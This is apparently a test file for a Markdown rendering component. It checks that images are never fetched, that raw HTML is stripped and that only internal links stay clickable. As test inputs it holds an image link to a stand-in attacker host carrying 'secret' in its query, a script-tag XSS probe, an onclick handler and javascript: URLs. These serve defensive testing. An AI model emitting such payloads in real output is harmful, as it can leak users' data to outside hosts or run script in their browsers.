import { render, screen } from '@testing-library/react'
import { createMemoryHistory, createRootRoute, createRouter, RouterProvider } from '@tanstack/react-router'
import { expect, test } from 'vitest'
import Markdown, { isInside } from './Markdown'

async function rendered(text: string): Promise<HTMLElement> {
  const root = createRootRoute({ component: () => <Markdown text={text} /> })
  const router = createRouter({ routeTree: root, history: createMemoryHistory() })
  await router.load()
  const { container } = render(<RouterProvider router={router as never} />)
  return container
}

test('an image is never fetched', async () => {
  const container = await rendered('before ![x](https://evil.example.com/?q=secret) after')
  await screen.findByText(/before/)
  expect(container.querySelector('img')).toBeNull()
})

test('raw HTML is not rendered', async () => {
  const container = await rendered('hello <script>alert(1)</script> <b onclick="x()">bold</b>')
  await screen.findByText(/hello/)
  expect(container.querySelector('script, b')).toBeNull()
})

test('an outside link is text with its address, an inside link is a link', async () => {
  const container = await rendered('[docs](https://example.com/x) and [pods](/c/a/k/Pod)')
  await screen.findByText(/example.com/)
  expect([...container.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
    '/c/a/k/Pod',
  ])
})

test('addresses that only look inside are outside', () => {
  for (const href of [
    '//evil.example.com',
    'javascript:alert(1)',
    'https://x',
    '/\\evil.example.com',
    undefined,
  ]) {
    expect(isInside(href)).toBe(false)
  }
  expect(isInside('/c/a/problems')).toBe(true)
})
